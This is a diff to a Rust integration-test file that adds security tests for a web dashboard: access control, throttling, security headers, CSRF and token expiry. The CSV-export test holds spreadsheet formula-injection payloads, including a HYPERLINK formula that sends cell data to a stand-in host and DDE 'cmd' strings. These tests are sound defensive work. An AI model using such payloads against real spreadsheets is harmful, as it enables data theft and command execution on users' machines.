@@ -206,24 +206,10 @@ async fn every_route_needs_a_user_the_right_role_and_a_csrf_token() {
 
     // Five wrong passwords lock the account's login, even for the right password afterwards.
     for _ in 0..5 {
-        let wrong = http_call(
-            addr,
-            "POST",
-            "/login",
-            &[("Content-Type", "application/x-www-form-urlencoded")],
-            &form_body(&[("username", "admin1"), ("password", "salah-sekali-ya")]),
-        )
-        .await;
+        let wrong = login_attempt(addr, "admin1", "salah-sekali-ya", &[]).await;
         assert_eq!(wrong.status, 401);
     }
-    let locked = http_call(
-        addr,
-        "POST",
-        "/login",
-        &[("Content-Type", "application/x-www-form-urlencoded")],
-        &form_body(&[("username", "admin1"), ("password", PASSWORD)]),
-    )
-    .await;
+    let locked = login_attempt(addr, "admin1", PASSWORD, &[]).await;
     assert_eq!(locked.status, 429, "{}", locked.body);
 }
 
@@ -877,4 +863,788 @@ async fn in_a_browser_an_urgent_report_appears_live() {
     println!("screenshots in {}", shots.display());
     stop.cancel();
     let _ = task.await;
+}
+
+/// `http_call` with a time limit, for answers that may never end (the event stream).
+async fn http_call_within(
+    addr: SocketAddr,
+    method: &str,
+    path: &str,
+    headers: &[(&str, &str)],
+    body: &str,
+) -> Option<HttpReply> {
+    tokio::time::timeout(
+        Duration::from_secs(5),
+        http_call(addr, method, path, headers, body),
+    )
+    .await
+    .ok()
+}
+
+/// The headers of an answer that may depend on what a handler computed (everything but the
+/// date, which changes by the second).
+fn shape(reply: &HttpReply) -> (u16, Vec<(String, String)>, String) {
+    let mut headers: Vec<(String, String)> = reply
+        .headers
+        .iter()
+        .filter(|(k, _)| !k.eq_ignore_ascii_case("date"))
+        .map(|(k, v)| (k.to_lowercase(), v.clone()))
+        .collect();
+    headers.sort();
+    (reply.status, headers, reply.body.clone())
+}
+
+/// Issue 11, point 1. The access rule denies by default and judges HEAD exactly as GET: every
+/// row of the route table under every method, anonymously and as each role. An anonymous
+/// answer is only a redirect to the login form, 401, 404 or 405, the same whatever the query
+/// (so nothing a handler computed leaks); a role below the row's gets 403; a signed-in HEAD
+/// is answered like GET, without a body and never with 500.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn head_requests_are_judged_as_get_and_unknown_methods_are_refused() {
+    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let c = collector_with_users(&tmp.path().join("collector")).await;
+    let addr = http_addr(&c);
+    let (viewer, _) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
+    let (analyst, _) = dashboard_login(addr, "analis1", PASSWORD).await;
+    let (admin, _) = dashboard_login(addr, "admin1", PASSWORD).await;
+    let people: [(&str, Option<(&str, Role)>); 4] = [
+        ("anonim", None),
+        ("viewer", Some((viewer.as_str(), Role::Viewer))),
+        ("analyst", Some((analyst.as_str(), Role::Analyst))),
+        ("admin", Some((admin.as_str(), Role::Admin))),
+    ];
+    let methods = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"];
+    for r in ROUTES {
+        let path = concrete(r.path);
+        let serves = |row: &str, m: &str| m == row || (m == "HEAD" && row == "GET");
+        let allowed = |m: &str| {
+            ROUTES
+                .iter()
+                .any(|x| x.path == r.path && serves(x.method, m))
+        };
+        for method in methods {
+            for (who, person) in &people {
+                let cookie = person.map(|(c, _)| c).unwrap_or_default();
+                let headers: Vec<(&str, &str)> = if cookie.is_empty() {
+                    Vec::new()
+                } else {
+                    vec![("Cookie", cookie)]
+                };
+                let streaming = r.path == "/api/v1/events" && method == "GET" && person.is_some();
+                if streaming {
+                    continue;
+                }
+                let ask = |q: &str| {
+                    let target = format!("{path}{q}");
+                    let headers = headers.clone();
+                    async move {
+                        http_call_within(addr, method, &target, &headers, "")
+                            .await
+                            .unwrap_or_else(|| panic!("{method} {target} as {who}: no answer"))
+                    }
+                };
+                let reply = ask("").await;
+                let context = format!("{method} {path} as {who}: {} {}", reply.status, reply.body);
+                if !allowed(method) {
+                    assert_eq!(reply.status, 405, "{context}");
+                    assert!(reply.header("allow").is_some(), "{context}");
+                    continue;
+                }
+                if !serves(r.method, method) {
+                    // Another row of the same path judges this method.
+                    continue;
+                }
+                if method == "HEAD" {
+                    assert!(reply.body.is_empty(), "{context}");
+                    assert_ne!(reply.status, 500, "{context}");
+                }
+                match (r.access, person) {
+                    (Access::Public, _) => {}
+                    (Access::Role(_), None) => {
+                        if r.kind == RouteKind::Page {
+                            assert_eq!(reply.status, 303, "{context}");
+                            assert_eq!(reply.header("location"), Some("/login"), "{context}");
+                        } else {
+                            assert_eq!(reply.status, 401, "{context}");
+                        }
+                        // The same answer whatever the query asks for.
+                        let a = ask("?q=a").await;
+                        let b = ask("?q=kata-yang-panjang-sekali&limit=1000").await;
+                        assert_eq!(shape(&a), shape(&b), "{context}");
+                        assert_eq!(shape(&a), shape(&reply), "{context}");
+                    }
+                    (Access::Role(needed), Some((_, role))) if *role < needed => {
+                        assert_eq!(reply.status, 403, "{context}");
+                    }
+                    (Access::Role(_), Some(_)) => {
+                        // A handler may find nothing (404), but the route is always known.
+                        assert!(
+                            ![401, 403, 405, 500].contains(&reply.status)
+                                && !reply.body.contains("rute tidak dikenal"),
+                            "{context}"
+                        );
+                    }
+                }
+            }
+        }
+    }
+    // A path in no row is 404 for everyone, under any method, before any handler runs.
+    for method in methods {
+        for cookie in ["", admin.as_str()] {
+            let headers: Vec<(&str, &str)> = if cookie.is_empty() {
+                Vec::new()
+            } else {
+                vec![("Cookie", cookie)]
+            };
+            let reply = http_call(addr, method, "/tidak-ada/sama-sekali", &headers, "").await;
+            assert_eq!(reply.status, 404, "{method}");
+            let reply = http_call(addr, method, "/laporan/", &headers, "").await;
+            assert_eq!(reply.status, 404, "{method} /laporan/");
+        }
+    }
+}
+
+/// Issue 11, point 9. Cells of a CSV export that a spreadsheet would run as a formula (`=`,
+/// `+`, `-`, `@`) are neutralised as OWASP recommends: a leading single quote, the field quoted.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn csv_export_neutralises_formula_cells() {
+    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let c = collector_with_users(&tmp.path().join("collector")).await;
+    let addr = http_addr(&c);
+    let (analyst, csrf) = dashboard_login(addr, "analis1", PASSWORD).await;
+    let hostile = [
+        "=HYPERLINK(\"http://jahat.example/?\"&A1,\"klik\")",
+        "+62 811 aman",
+        "-1+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+    ];
+    for claim in hostile {
+        let reply = http_call(
+            addr,
+            "POST",
+            "/verifikasi",
+            &[
+                ("Cookie", &analyst),
+                ("Content-Type", "application/x-www-form-urlencoded"),
+            ],
+            &form_body(&[
+                ("csrf", &csrf),
+                ("claim", claim),
+                ("url", "https://contoh.example/klaim"),
+            ]),
+        )
+        .await;
+        assert_eq!(reply.status, 303, "{}", reply.body);
+    }
+    let csv = http_call(
+        addr,
+        "GET",
+        "/api/v1/claims?format=csv",
+        &[("Cookie", &analyst)],
+        "",
+    )
+    .await;
+    assert_eq!(csv.status, 200);
+    for claim in hostile {
+        let quoted = format!("\"'{}\"", claim.replace('"', "\"\""));
+        assert!(
+            csv.body.contains(&quoted),
+            "{claim} is not neutralised:\n{}",
+            csv.body
+        );
+    }
+    // No field of any line starts a formula.
+    for line in csv.body.lines() {
+        for field in line.split(',') {
+            assert!(
+                !field.starts_with(['=', '+', '@']) && !field.starts_with("-1"),
+                "a formula cell: {field} in {line}"
+            );
+        }
+    }
+}
+
+/// Issue 11, point 14. The feeds' links come from the configured `public_url` (or the
+/// configured listen address), never from the request's `Host` or `X-Forwarded-Proto`.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn feed_links_ignore_a_hostile_host_header() {
+    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let dir = tmp.path().join("collector");
+    init_collector_with(&dir, |t| {
+        t.replace(
+            "[dashboard]",
+            "[dashboard]\npublic_url = \"https://pasopati.contoh.go.id\"",
+        )
+    });
+    let c = collector_with_users(&dir).await;
+    let addr = http_addr(&c);
+    let (viewer, _) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
+    let hostile = [
+        ("Cookie", viewer.as_str()),
+        ("Host", "jahat.example"),
+        ("X-Forwarded-Proto", "javascript"),
+        ("X-Forwarded-Host", "jahat.example"),
+    ];
+    let json = http_call(addr, "GET", "/feed/feed.json", &hostile, "").await;
+    assert_eq!(json.status, 200, "{}", json.body);
+    let feed: Value = serde_json::from_str(&json.body).unwrap_or_else(|e| panic!("{e}"));
+    assert_eq!(
+        feed["feed_url"],
+        "https://pasopati.contoh.go.id/feed/feed.json"
+    );
+    assert_eq!(
+        feed["home_page_url"],
+        "https://pasopati.contoh.go.id/publikasi"
+    );
+    let atom = http_call(addr, "GET", "/feed/atom.xml", &hostile, "").await;
+    assert_eq!(atom.status, 200, "{}", atom.body);
+    assert!(
+        atom.body
+            .contains("href=\"https://pasopati.contoh.go.id/feed/atom.xml\""),
+        "{}",
+        atom.body
+    );
+    for body in [&json.body, &atom.body] {
+        assert!(
+            !body.contains("jahat") && !body.contains("javascript"),
+            "{body}"
+        );
+    }
+    drop(c);
+
+    // Without `public_url`, links use the configured listen address.
+    let dir = tmp.path().join("tanpa-url");
+    let c = collector_with_users(&dir).await;
+    let addr = http_addr(&c);
+    let (viewer, _) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
+    let json = http_call(
+        addr,
+        "GET",
+        "/feed/feed.json",
+        &[("Cookie", &viewer), ("Host", "jahat.example")],
+        "",
+    )
+    .await;
+    let feed: Value = serde_json::from_str(&json.body).unwrap_or_else(|e| panic!("{e}"));
+    let config =
+        pasopati_collector::config::CollectorConfig::load(&dir).unwrap_or_else(|e| panic!("{e}"));
+    assert_eq!(
+        feed["feed_url"],
+        format!("http://{}/feed/feed.json", config.http_listen)
+    );
+}
+
+/// Issue 11, point 19. The dashboard's links percent-encode their query: a search for
+/// `a&b#c` keeps its value through the pagination link and the CSV link.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn search_links_percent_encode_their_values() {
+    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let c = collector_with_users(&tmp.path().join("collector")).await;
+    let addr = http_addr(&c);
+    let agent_dir = tmp.path().join("agent");
+    c.enroll_agent(&agent_dir, "lapas-uji").await;
+    let agent = pasopati_agent::Agent::open(&agent_dir).unwrap_or_else(|e| panic!("{e}"));
+    let handle = agent.handle();
+    for i in 0..3 {
+        let mut d = draft(i);
+        d.body = format!("{} Kode uji a&b#c.", d.body);
+        handle.file(d).unwrap_or_else(|e| panic!("{e}"));
+    }
+    let stop = tokio_util::sync::CancellationToken::new();
+    let task = tokio::spawn(agent.run_with(
+        pasopati_agent::RunOptions {
+            control_socket: false,
+            inbox: false,
+            web: false,
+        },
+        stop.clone(),
+    ));
+    eventually("the reports stored", Duration::from_secs(30), || {
+        c.store.report_count().is_ok_and(|n| n == 3)
+    })
+    .await;
+    stop.cancel();
+    let _ = task.await;
+
+    let (viewer, _) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
+    let page = http_call(
+        addr,
+        "GET",
+        "/laporan?q=a%26b%23c&limit=1",
+        &[("Cookie", &viewer)],
+        "",
+    )
+    .await;
+    assert_eq!(page.status, 200);
+    let href = |body: &str, label: &str| -> String {
+        body.split("<a href=\"")
+            .filter_map(|s| s.split_once("\">"))
+            .find(|(_, rest)| rest.starts_with(label))
+            .map(|(h, _)| h.replace("&amp;", "&"))
+            .unwrap_or_else(|| panic!("no link {label}: {body}"))
+    };
+    let next = href(&page.body, "Berikutnya");
+    assert!(next.contains("q=a%26b%23c"), "{next}");
+    let csv = href(&page.body, "Unduh CSV");
+    assert!(csv.contains("q=a%26b%23c"), "{csv}");
+    // Following the link keeps the search (the form shows it again) and moves on a page.
+    let second = http_call(addr, "GET", &next, &[("Cookie", &viewer)], "").await;
+    assert_eq!(second.status, 200);
+    assert!(
+        second
+            .body
+            .contains("name=\"q\" placeholder=\"Cari teks…\" value=\"a&amp;b#c\""),
+        "{}",
+        second.body
+    );
+    assert!(next.contains("offset=1"), "{next}");
+}
+
+/// One login attempt (with whatever extra headers), answered.
+async fn login_attempt(
+    addr: SocketAddr,
+    username: &str,
+    password: &str,
+    extra: &[(&str, &str)],
+) -> HttpReply {
+    let (cookie, token) = dashboard_login_form(addr).await;
+    let mut headers = vec![
+        ("Content-Type", "application/x-www-form-urlencoded"),
+        ("Cookie", cookie.as_str()),
+    ];
+    headers.extend_from_slice(extra);
+    http_call(
+        addr,
+        "POST",
+        "/login",
+        &headers,
+        &form_body(&[
+            ("username", username),
+            ("password", password),
+            ("csrf", &token),
+        ]),
+    )
+    .await
+}
+
+/// Issue 11, point 5. Thirty-two wrong logins sent at once: an attempt is counted before its
+/// password is verified, so at most five are verified (401) and the rest are refused (429).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn parallel_wrong_logins_are_throttled_before_argon2() {
+    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let c = collector_with_users(&tmp.path().join("collector")).await;
+    let addr = http_addr(&c);
+    let attempts: Vec<_> = (0..32)
+        .map(|_| {
+            tokio::spawn(async move {
+                login_attempt(addr, "admin1", "salah-sekali-ya-ampun", &[])
+                    .await
+                    .status
+            })
+        })
+        .collect();
+    let mut statuses = Vec::new();
+    for a in attempts {
+        statuses.push(a.await.unwrap_or_else(|e| panic!("{e}")));
+    }
+    let wrong = statuses.iter().filter(|s| **s == 401).count();
+    let throttled = statuses.iter().filter(|s| **s == 429).count();
+    assert!(wrong <= 5, "{wrong} attempts were verified: {statuses:?}");
+    assert_eq!(wrong + throttled, 32, "{statuses:?}");
+    let locked = login_attempt(addr, "admin1", PASSWORD, &[]).await;
+    assert_eq!(locked.status, 429);
+    assert!(locked.header("retry-after").is_some());
+}
+
+/// Issue 11, point 6. The lockout is per (username, client address): wrong passwords from one
+/// address do not lock the real user out at another, nor another user at the same address.
+/// Behind a proxy listed in `trusted_proxies`, `X-Forwarded-For` names the client; from any
+/// other peer the header is ignored (so an attacker cannot dodge the lock by writing it).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn lockout_is_per_user_and_client_address() {
+    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let dir = tmp.path().join("di-belakang-proxy");
+    init_collector_with(&dir, |t| {
+        t.replace(
+            "trusted_proxies = []",
+            "trusted_proxies = [\"127.0.0.1\", \"::1\"]",
+        )
+    });
+    let c = collector_with_users(&dir).await;
+    let addr = http_addr(&c);
+    let attacker = [("X-Forwarded-For", "203.0.113.7")];
+    for _ in 0..5 {
+        let r = login_attempt(addr, "admin1", "salah-sekali-ya-ampun", &attacker).await;
+        assert_eq!(r.status, 401, "{}", r.body);
+    }
+    assert_eq!(
+        login_attempt(addr, "admin1", PASSWORD, &attacker)
+            .await
+            .status,
+        429
+    );
+    // The real admin at her own address signs in.
+    let real = login_attempt(
+        addr,
+        "admin1",
+        PASSWORD,
+        &[("X-Forwarded-For", "198.51.100.9")],
+    )
+    .await;
+    assert_eq!(real.status, 303, "{}", real.body);
+    // Another user at the attacker's address is not locked either.
+    let other = login_attempt(addr, "analis1", PASSWORD, &attacker).await;
+    assert_eq!(other.status, 303, "{}", other.body);
+    drop(c);
+
+    // No trusted proxy (the default): the header is ignored and the peer is the client.
+    let c = collector_with_users(&tmp.path().join("tanpa-proxy")).await;
+    let addr = http_addr(&c);
+    for i in 0..5 {
+        let spoofed = format!("203.0.113.{i}");
+        let r = login_attempt(
+            addr,
+            "admin1",
+            "salah-sekali-ya-ampun",
+            &[("X-Forwarded-For", &spoofed)],
+        )
+        .await;
+        assert_eq!(r.status, 401, "{}", r.body);
+    }
+    let r = login_attempt(
+        addr,
+        "admin1",
+        PASSWORD,
+        &[("X-Forwarded-For", "198.51.100.9")],
+    )
+    .await;
+    assert_eq!(r.status, 429, "{}", r.body);
+}
+
+/// Issue 11, point 16. Every answer, to every route under its method, signed in or not, and
+/// refusals too, carries a Content-Security-Policy without `unsafe-inline` that forbids
+/// framing, `nosniff`, a referrer policy and `Cache-Control: no-store`; pages carry no inline
+/// script or style; and the login form needs its pre-session CSRF token.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn every_answer_has_security_headers_and_login_needs_its_csrf_token() {
+    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let c = collector_with_users(&tmp.path().join("collector")).await;
+    let addr = http_addr(&c);
+    let (admin, _) = dashboard_login(addr, "admin1", PASSWORD).await;
+    let check = |reply: &HttpReply, context: &str| {
+        let csp = reply
+            .header("content-security-policy")
+            .unwrap_or_else(|| panic!("no CSP: {context}"));
+        assert!(!csp.contains("unsafe-inline"), "{context}: {csp}");
+        assert!(csp.contains("frame-ancestors 'none'"), "{context}: {csp}");
+        assert!(csp.contains("default-src 'none'"), "{context}: {csp}");
+        assert_eq!(
+            reply.header("x-content-type-options"),
+            Some("nosniff"),
+            "{context}"
+        );
+        assert!(
+            matches!(
+                reply.header("referrer-policy"),
+                Some("no-referrer" | "same-origin")
+            ),
+            "{context}"
+        );
+        assert_eq!(reply.header("cache-control"), Some("no-store"), "{context}");
+    };
+    for r in ROUTES {
+        if r.path == "/api/v1/events" && r.method == "GET" {
+            // The stream's headers come first; read them with a time limit.
+            let reply = http_call_within(addr, "HEAD", r.path, &[("Cookie", &admin)], "")
+                .await
+                .unwrap_or_else(|| panic!("no answer to HEAD {}", r.path));
+            check(&reply, "HEAD /api/v1/events");
+            continue;
+        }
+        for cookie in ["", admin.as_str()] {
+            let headers: Vec<(&str, &str)> = if cookie.is_empty() {
+                Vec::new()
+            } else {
+                vec![("Cookie", cookie)]
+            };
+            let reply = http_call(addr, r.method, &concrete(r.path), &headers, "").await;
+            let context = format!(
+                "{} {} ({}): {}",
+                r.method,
+                r.path,
+                cookie.len(),
+                reply.status
+            );
+            check(&reply, &context);
+            if reply
+                .header("content-type")
+                .is_some_and(|t| t.starts_with("text/html"))
+            {
+                let body = &reply.body;
+                assert!(!body.contains("<style"), "{context}");
+                assert!(!body.contains(" style="), "{context}");
+                for script in body.split("<script").skip(1) {
+                    assert!(script.starts_with(" src="), "inline script: {context}");
+                }
+            }
+        }
+    }
+    for (method, path) in [("GET", "/tidak-ada"), ("DELETE", "/laporan")] {
+        let reply = http_call(addr, method, path, &[], "").await;
+        check(&reply, &format!("{method} {path}"));
+    }
+    // The static files are served to anyone, with their types.
+    let css = http_call(addr, "GET", "/static/app.css", &[], "").await;
+    assert_eq!(css.status, 200);
+    assert!(css
+        .header("content-type")
+        .is_some_and(|t| t.starts_with("text/css")));
+    let js = http_call(addr, "GET", "/static/app.js", &[], "").await;
+    assert_eq!(js.status, 200);
+    assert!(js.body.contains("EventSource"));
+
+    // A login without the form's token, or with a token that is not its cookie's, is refused
+    // before the password is looked at; with the pair it goes through.
+    let form = |token: Option<&str>| {
+        let mut fields = vec![("username", "admin1"), ("password", PASSWORD)];
+        if let Some(t) = token {
+            fields.push(("csrf", t));
+        }
+        form_body(&fields)
+    };
+    let plain = [("Content-Type", "application/x-www-form-urlencoded")];
+    let refused = http_call(addr, "POST", "/login", &plain, &form(None)).await;
+    assert_eq!(refused.status, 403, "{}", refused.body);
+    assert!(refused
+        .header("set-cookie")
+        .is_none_or(|c| !c.contains("pasopati_session")));
+    let (cookie, token) = dashboard_login_form(addr).await;
+    let (_, other_token) = dashboard_login_form(addr).await;
+    let with_cookie = [
+        ("Content-Type", "application/x-www-form-urlencoded"),
+        ("Cookie", cookie.as_str()),
+    ];
+    let no_cookie = http_call(addr, "POST", "/login", &plain, &form(Some(&token))).await;
+    assert_eq!(no_cookie.status, 403);
+    let mismatched = http_call(
+        addr,
+        "POST",
+        "/login",
+        &with_cookie,
+        &form(Some(&other_token)),
+    )
+    .await;
+    assert_eq!(mismatched.status, 403);
+    let forged = format!("{}.00", token.split('.').next().unwrap_or_default());
+    let forged_cookie = format!("pasopati_masuk={forged}");
+    let forged_reply = http_call(
+        addr,
+        "POST",
+        "/login",
+        &[
+            ("Content-Type", "application/x-www-form-urlencoded"),
+            ("Cookie", forged_cookie.as_str()),
+        ],
+        &form(Some(&forged)),
+    )
+    .await;
+    assert_eq!(forged_reply.status, 403);
+    let ok = http_call(addr, "POST", "/login", &with_cookie, &form(Some(&token))).await;
+    assert_eq!(ok.status, 303, "{}", ok.body);
+}
+
+/// Opens `/api/v1/events` with `credential` (a header) and returns a task that ends when the
+/// server ends the stream (the connection closes), after the answer's head has arrived.
+async fn open_stream(addr: SocketAddr, credential: (&str, &str)) -> tokio::task::JoinHandle<()> {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let mut stream = tokio::net::TcpStream::connect(addr)
+        .await
+        .unwrap_or_else(|e| panic!("{e}"));
+    let request = format!(
+        "GET /api/v1/events HTTP/1.1\r\nHost: {addr}\r\n{}: {}\r\nAccept: text/event-stream\r\nConnection: close\r\n\r\n",
+        credential.0, credential.1
+    );
+    stream
+        .write_all(request.as_bytes())
+        .await
+        .unwrap_or_else(|e| panic!("{e}"));
+    let mut head = Vec::new();
+    let mut buf = [0u8; 4096];
+    while !head.windows(4).any(|w| w == b"\r\n\r\n") {
+        let n = tokio::time::timeout(Duration::from_secs(5), stream.read(&mut buf))
+            .await
+            .unwrap_or_else(|_| panic!("no answer head"))
+            .unwrap_or(0);
+        assert!(n > 0, "the stream closed before its head");
+        head.extend_from_slice(&buf[..n]);
+    }
+    assert!(
+        head.starts_with(b"HTTP/1.1 200"),
+        "{}",
+        String::from_utf8_lossy(&head)
+    );
+    tokio::spawn(async move {
+        let mut buf = [0u8; 4096];
+        while stream.read(&mut buf).await.is_ok_and(|n| n > 0) {}
+    })
+}
+
+/// Issue 11, point 7. The live event stream ends within 5 seconds of the session's logout,
+/// and of its user being disabled.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn event_stream_ends_on_logout_and_disable() {
+    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let c = collector_with_users(&tmp.path().join("collector")).await;
+    let addr = http_addr(&c);
+
+    let (admin, csrf) = dashboard_login(addr, "admin1", PASSWORD).await;
+    let stream = open_stream(addr, ("Cookie", &admin)).await;
+    tokio::time::sleep(Duration::from_millis(2500)).await;
+    assert!(!stream.is_finished(), "the stream ended on its own");
+    let out = http_call(
+        addr,
+        "POST",
+        "/logout",
+        &[
+            ("Cookie", &admin),
+            ("Content-Type", "application/x-www-form-urlencoded"),
+        ],
+        &form_body(&[("csrf", &csrf)]),
+    )
+    .await;
+    assert_eq!(out.status, 303, "{}", out.body);
+    let started = Instant::now();
+    tokio::time::timeout(Duration::from_secs(5), stream)
+        .await
+        .unwrap_or_else(|_| panic!("the stream outlived the logout by 5 s"))
+        .unwrap_or_else(|e| panic!("{e}"));
+    println!(
+        "stream ended {} ms after logout",
+        started.elapsed().as_millis()
+    );
+
+    let (viewer, _) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
+    let stream = open_stream(addr, ("Cookie", &viewer)).await;
+    tokio::time::sleep(Duration::from_millis(500)).await;
+    c.store
+        .disable_user("pemirsa1", "test")
+        .unwrap_or_else(|e| panic!("{e}"));
+    tokio::time::timeout(Duration::from_secs(5), stream)
+        .await
+        .unwrap_or_else(|_| panic!("the stream outlived the user's disabling by 5 s"))
+        .unwrap_or_else(|e| panic!("{e}"));
+}
+
+/// Issue 11, point 17 (API tokens). Tokens carry an expiry (`--expires`, 90 days by default)
+/// and are refused after it; `api-token list` shows them by id without the secret; `api-token
+/// revoke ID` stops one token and leaves the others; every change is in the audit log.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn api_tokens_expire_and_are_listed_and_revoked_one_by_one() {
+    let bins = bins!();
+    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let c = collector_with_users(&tmp.path().join("collector")).await;
+    let addr = http_addr(&c);
+    let d = path_str(&c.dir).to_owned();
+    let create = |extra: &[&str]| {
+        let mut args = vec![
+            "api-token",
+            "create",
+            "--data-dir",
+            &d,
+            "--username",
+            "pemirsa1",
+        ];
+        args.extend_from_slice(extra);
+        format!("Bearer {}", run_ok(&bins.collector, &args).trim())
+    };
+    let kept = create(&[]);
+    let revoked = create(&["--expires", "30d"]);
+    let short = create(&["--expires", "2s"]);
+    let status = |bearer: String| async move {
+        http_call(
+            addr,
+            "GET",
+            "/api/v1/sites",
+            &[("Authorization", &bearer)],
+            "",
+        )
+        .await
+        .status
+    };
+    for t in [&kept, &revoked, &short] {
+        assert_eq!(status(t.clone()).await, 200);
+    }
+
+    let list = run_ok(&bins.collector, &["api-token", "list", "--data-dir", &d]);
+    let tokens: Vec<Value> = list
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
+        .collect();
+    assert_eq!(tokens.len(), 3, "{list}");
+    for t in [&kept, &revoked, &short] {
+        let secret = t.trim_start_matches("Bearer ");
+        assert!(!list.contains(secret), "the list shows a token");
+    }
+    let now = pasopati_common::Timestamp::now().0;
+    let expiry_in_days = |t: &Value| {
+        let at = pasopati_common::Timestamp::parse_rfc3339(t["expires_at"].as_str().unwrap_or(""))
+            .unwrap_or_else(|e| panic!("{e}: {t}"));
+        (at.0 - now) as f64 / 86_400_000.0
+    };
+    let mut days: Vec<f64> = tokens.iter().map(expiry_in_days).collect();
+    days.sort_by(|a, b| a.total_cmp(b));
+    assert!(days[0] < 0.01, "{days:?}");
+    assert!((days[1] - 30.0).abs() < 0.01, "{days:?}");
+    assert!(
+        (days[2] - 90.0).abs() < 0.01,
+        "the default is not 90 days: {days:?}"
+    );
+    let id_of = |wanted: f64| {
+        tokens
+            .iter()
+            .find(|t| (expiry_in_days(t) - wanted).abs() < 0.01)
+            .and_then(|t| t["id"].as_str())
+            .unwrap_or_else(|| panic!("no token expiring in {wanted} days: {list}"))
+            .to_owned()
+    };
+
+    // Revoking one leaves the others working.
+    let id = id_of(30.0);
+    run_ok(
+        &bins.collector,
+        &["api-token", "revoke", "--data-dir", &d, &id],
+    );
+    assert_eq!(status(revoked.clone()).await, 401);
+    assert_eq!(status(kept.clone()).await, 200);
+    run_fail(
+        &bins.collector,
+        &["api-token", "revoke", "--data-dir", &d, &id],
+    );
+    let list = run_ok(&bins.collector, &["api-token", "list", "--data-dir", &d]);
+    assert_eq!(list.lines().count(), 2, "{list}");
+
+    // The short-lived token is refused once it has expired.
+    tokio::time::sleep(Duration::from_millis(2200)).await;
+    assert_eq!(status(short.clone()).await, 401);
+    assert_eq!(status(kept.clone()).await, 200);
+
+    let audit = c.store.audit_log().unwrap_or_else(|e| panic!("{e}"));
+    let actions: Vec<String> = audit
+        .into_iter()
+        .filter_map(|(_, e)| e.ok())
+        .map(|e| format!("{} {}", e.action, e.details))
+        .collect();
+    assert_eq!(
+        actions
+            .iter()
+            .filter(|a| a.starts_with("api_token_create"))
+            .count(),
+        3
+    );
+    assert!(
+        actions
+            .iter()
+            .any(|a| *a == format!("api_token_revoke id={id}")),
+        "{actions:?}"
+    );
 }
